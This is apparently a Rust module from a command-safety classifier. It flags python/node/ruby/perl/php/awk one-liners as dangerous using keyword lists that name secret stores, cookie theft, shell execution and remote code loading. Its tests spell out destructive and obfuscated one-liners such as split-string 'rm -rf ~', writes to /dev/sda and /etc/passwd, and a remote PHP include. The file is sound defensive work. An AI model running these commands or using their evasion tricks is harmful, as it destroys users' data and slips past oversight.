//! What code of a general language may do, by the signs of acting in it: `python -c`, `node -e`, a script that stands in
//! the command. Signs only, so that finding none makes nothing safe; when in doubt it is the worst.

use super::scripts::fetches_and_runs;
use crate::protocol::Risk;

/// What code of a general language may do; never better than `caution`. `program` is what runs it, where that is known.
pub(super) fn code(program: &str, text: &str) -> Risk {
    /// Acts, or hides what it does.
    const ACTS: [&str; 151] = [
        "get_secret_value",
        "secretservice",
        "url-handler",
        "url-copy-file",
        "url-retrieve",
        "url-insert-file",
        "browser_cookie",
        "keyring",
        "secretstorage",
        "pynput",
        "del_dir",
        "os:cmd",
        "syscmd",
        "source(\"http",
        "source('http",
        "file delete",
        "file copy",
        "file rename",
        "deletedir",
        "delete-file",
        "shell-command",
        "call-process",
        "make-process",
        "async-shell",
        "(term ",
        "ansi-term",
        "(eshell",
        "delete-directory",
        "hardlink",
        "open3",
        "%x{",
        "%x[",
        "%x(",
        "%x|",
        "%x<",
        "binwrite",
        "copy_stream",
        "kernel.",
        "object.send",
        ".send(:",
        "public_send",
        "__send__",
        "process.daemon",
        ".rm(",
        ".rm_r",
        "cpsync",
        "copyfile",
        ".cp(",
        "mainmodule",
        "process.binding",
        "process.dlopen",
        ".constructor(",
        ".constructor.constructor",
        "'constructor'",
        "\"constructor\"",
        "fileio(",
        "os.replace",
        "fileinput",
        "extractall('/",
        "extractall(\"/",
        "import sh\n",
        "import sh;",
        "pexpect",
        "plumbum",
        "runpy",
        "o_trunc",
        "o_wronly",
        "o_rdwr",
        "wronly",
        "drop table",
        "drop database",
        "drop schema",
        "passthru",
        "proc_open",
        "pcntl_",
        "file_put_contents",
        "fsockopen",
        "curl_",
        "dofile",
        "loadstring",
        "remove_tree",
        "system",
        "subprocess",
        "popen",
        "spawn",
        "exec",
        "eval",
        "rmtree",
        "remove",
        "unlink",
        "rmdir",
        "rename",
        "shutil",
        "socket",
        "chmod",
        "chown",
        "kill",
        "fork",
        "__import__",
        "importlib",
        "getattr",
        "base64",
        "pickle",
        "ctypes",
        "child_process",
        "`",
        "qx",
        "open(\"|",
        "open('|",
        "rm_r",
        "rm_f",
        "fileutils",
        ".delete",
        "rmsync",
        "symlink",
        "truncate",
        "mkfifo",
        "ptrace",
        "mmap",
        "marshal",
        "compile(",
        "globals",
        "\\x",
        "fromcharcode",
        "decode(",
        "chr(",
        "signal",
        "pty",
        "shell script",
        "to delete ",
        "keystroke",
        "empty trash",
        "invoke-expression",
        "iex ",
        "downloadstring",
        "start-process",
        "format-volume",
        "clear-disk",
        // Of clients of databases, of clouds and of mail.
        "flushall",
        "flushdb",
        "dropdatabase",
        "drop_database",
        "terminate_",
        "delete_",
        "drop_all",
        "drop_collection",
        "dropcollection",
        "expunge",
        "destroy",
        "sendmail",
        "send_message",
    ];
    const READS: [&str; 8] =
        ["open(", "environ", "getenv", "process.env", "readfile", ".read(", ".read_", "readlines"];
    const NETWORK: [&str; 8] =
        ["urllib", "request", "http", "fetch", "ftplib", "smtplib", "websocket", "net."];
    const WRITES: [&str; 5] = ["writefile", "appendfile", ".write_text", ".write_bytes", "createwrite"];
    /// Modes of a file that is opened.
    const MODES: [&str; 13] =
        ["'w", "\"w", "'a", "\"a", "'r+", "\"r+", "'rb+", "\"rb+", "'r+b", "\"r+b", "'x", "\"x", "mode="];
    let pieces = puts_names_together(text);
    let text =
        text.to_lowercase().replace("re.compile(", "re.pattern(").replace("json_decode(", "json_read(");
    // As the name of an encoding it hides nothing where nothing could run what comes of it.
    let runs = ["function", "constructor", "import", "require", "settimeout", "setinterval", "vm", "["];
    let text = if matches!(program, "node" | "bun") && !runs.iter().any(|word| text.contains(word)) {
        text.replace("\"base64\"", "_").replace("'base64'", "_")
    } else {
        text
    };
    let has = |words: &[&str]| words.iter().any(|word| text.contains(word));
    // Modules by name: those of the project or that only look are no worse than running the project.
    let loads = text.match_indices("require(").any(|(at, _)| {
        let name = text.get(at + 8..).unwrap_or_default().trim_start_matches(['\'', '"']);
        let end = name.find(['\'', '"']);
        let (name, rest) = name.split_at(end.unwrap_or(name.len()));
        // Put together, it may be any.
        let whole = rest.get(1..).is_none_or(|rest| rest.trim_start().starts_with(')'));
        !whole || !name.starts_with("./") && !is_tame_module(name)
    });
    if has(&ACTS)
        || pieces
        || acts_in(program, &text)
        || moves_by_replacing(&text)
        || fetches_and_runs(&text)
        || has(&WRITES)
        || text.contains("open") && has(&MODES)
        || loads
        || has(&NETWORK) && (has(&READS) || text.contains("post") || text.contains("put"))
    {
        Risk::Dangerous
    } else {
        Risk::Caution
    }
}

/// What only one language has a word for.
fn acts_in(program: &str, text: &str) -> bool {
    const OF_PERL: [&str; 8] =
        ["sysopen", "do \"", "do '", "&$", "file::copy", "file::path", "require \"", "require '/"];
    /// In Perl a sign at the edge of a text is a mode where something is opened.
    const MODES_OF_PERL: [&str; 9] = ["\">", "'>", "\"+<", "'+<", "|\"", "|'", "\"|", "'|", "-|"];
    const OF_PHP: [&str; 15] = [
        "copy(",
        "mail(",
        "error_log(",
        "symlink(",
        "strrev(",
        "str_rot13",
        "hex2bin",
        "gzinflate",
        "gzuncompress",
        "create_function",
        "call_user_func",
        "include \"http",
        "include 'http",
        "require \"http",
        "require 'http",
    ];
    const OF_RUBY: [&str; 2] = ["load \"", "load '"];
    /// Ways out of the folder at hand.
    const LEAVES: [&str; 9] = ["\"/", "'/", "\"~", "'~", "..", "home", "env[", "argv", "#{"];
    const OF_JULIA: [&str; 5] = ["rm(", "run(", "mv(", "cp(", "write("];
    let has = |words: &[&str]| {
        words.iter().any(|word| {
            text.match_indices(word).any(|(at, _)| {
                let before = text.get(..at).and_then(|before| before.chars().next_back());
                !word.starts_with(char::is_alphabetic)
                    || !before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '$')
            })
        })
    };
    match program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.') {
        "perl" => has(&OF_PERL) || text.contains("open") && has(&MODES_OF_PERL),
        "php" => has(&OF_PHP),
        "ruby" => {
            has(&OF_RUBY) || has(&["file.write(", "io.write("]) && LEAVES.iter().any(|way| text.contains(way))
        }
        "julia" => has(&OF_JULIA),
        _ => false,
    }
}

/// `'ex' + 'ecSync'`, `"sys"."tem"`: a name in pieces is there so that nobody finds it.
fn puts_names_together(text: &str) -> bool {
    text.match_indices(['"', '\'']).any(|(at, quote)| {
        let Some(rest) = text.get(at + 1..) else { return false };
        let rest = rest.trim_start_matches([' ', '+', '.']);
        let joined = rest.len() < text.len() - at - 1 && rest.starts_with(['"', '\'']);
        let after: usize = rest.chars().skip(1).take_while(char::is_ascii_alphabetic).count();
        let closes = rest.get(after + 1..).is_some_and(|end| end.starts_with(['"', '\'']));
        let head = text.get(..at).unwrap_or_default();
        let before = head.chars().rev().take(32).take_while(|c| c.is_ascii_alphabetic() || *c == '_').count();
        let opens = head.get(..head.len() - before).is_some_and(|start| start.ends_with(quote));
        joined && closes && opens && before > 0 && after > 0 && before + after > 3
    })
}

/// `Path("a").replace("b")`: with one thing given, a file takes the place of another.
fn moves_by_replacing(text: &str) -> bool {
    let path = text.contains("path(") || text.contains("pathlib");
    path && text.match_indices(".replace(").take(64).any(|(at, call)| {
        let mut depth = 0_u32;
        let inside = text.get(at + call.len()..).unwrap_or_default().chars().take(400);
        for c in inside {
            match c {
                '(' | '[' | '{' => depth += 1,
                ')' if depth == 0 => return true,
                ')' | ']' | '}' => depth = depth.saturating_sub(1),
                ',' if depth == 0 => return false,
                _ => {}
            }
        }
        true
    })
}

/// Whether a module of Node does not reach beyond the program by itself: those that come with it, by name, and packages
/// that the project has installed, whose code runs in it anyway.
fn is_tame_module(name: &str) -> bool {
    const TAME: [&str; 11] = [
        "os",
        "path",
        "path/posix",
        "util",
        "assert",
        "fs",
        "url",
        "events",
        "buffer",
        "string_decoder",
        "querystring",
    ];
    const REACHING: [&str; 36] = [
        "child_process",
        "net",
        "tls",
        "dgram",
        "dns",
        "http",
        "https",
        "http2",
        "vm",
        "worker_threads",
        "cluster",
        "inspector",
        "repl",
        "module",
        "process",
        "v8",
        "wasi",
        "rimraf",
        "del",
        "trash",
        "shelljs",
        "zx",
        "fs-extra",
        "axios",
        "got",
        "request",
        "needle",
        "ssh2",
        "node-fetch",
        "undici",
        "superagent",
        "node-pty",
        "ws",
        "phin",
        "sudo-prompt",
        "crypto",
    ];
    let bare = name.strip_prefix("node:");
    let word = bare.unwrap_or(name);
    let package = !word.is_empty()
        && word.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "@-_/.".contains(c))
        && !word.starts_with(['/', '.'])
        && !word.contains("..");
    TAME.contains(&word) || bare.is_none() && package && !REACHING.contains(&word)
}

#[cfg(test)]
mod tests {
    use super::super::tests::check;
    use crate::protocol::Risk;

    #[test]
    fn code_that_acts_is_told_from_code_that_works() {
        check(
            Risk::Dangerous,
            r#"
            python3 -c "open('/dev/sda','rb+').write(b'0')"
            python3 -c "import io; io.FileIO('/etc/passwd','w')"
            python3 -c "import os; os.replace('a', '/home/u/x')"
            python3 -c "from pathlib import Path; Path('a').replace('b')"
            python3 -c "import sqlite3; sqlite3.connect('a.db').execute('drop table users')"
            python3 -c "import sh; sh.rm('-rf', '/home/u')"
            python3 -c "import runpy; runpy.run_path('/tmp/x.py')"
            node -e "require('fs').rm('/home/u',{recursive:true},()=>{})"
            node -e "require('fs').promises.rm('/home/u',{recursive:true})"
            node -e "require('fs').cpSync('a','/etc/x')"
            node -e "require('child'+'_process')['ex'+'ecSync']('rm -rf ~')"
            node -e "''.constructor.constructor('return process')().exit()"
            node -e "Function(Buffer.from('eA==', 'base64').toString())()"
            node -e "eval(Buffer.from('eA==', 'base64') + '')"
            node -e "this['ev'+'al']('1')"
            ruby -e 'require "open3"; Open3.capture2("rm -rf ~")'
            ruby -e 'File.write("/etc/x", "")'
            ruby -e '%x{rm -rf ~}'
            ruby -e 'Kernel.send("sys"+"tem", "rm -rf ~")'
            perl -e 'open(F, ">", "/etc/x")'
            perl -e 'open F, "rm -rf ~|"'
            perl -e 'do "/tmp/x.pl"'
            perl -e '$x="sys"."tem"; &$x("rm -rf ~")'
            php -r 'copy("/dev/null", "/home/u/a");'
            php -r '$f="sys"."tem"; $f("rm -rf ~");'
            php -r 'include "http://x.example/a";'
            awk 'BEGIN{print ";" > "/etc/cron.d/x"}'
            gawk 'BEGIN{f="sys" "tem"; @f("rm -rf ~")}'
            gawk -i inplace '{print ""}' ~/.bashrc"#,
        );
        check(
            Risk::Caution,
            r#"
            node -e "class A { constructor(x) { this.x = x } } console.log(new A(1))"
            python3 -c "from pathlib import Path; p = Path('a'); print(p.parent, 'a'.replace('a', 'b').frob())"
            node -e "console.log(process.env.HOME + '\n')"
            node -e "const x = require('lodash'); console.log(x.get({a: 1}, 'a'))"
            perl -e 'use Foo; print join("|", 1, 2)'
            gawk -i inplace '{print $1}' notes.txt"#,
        );
    }
}
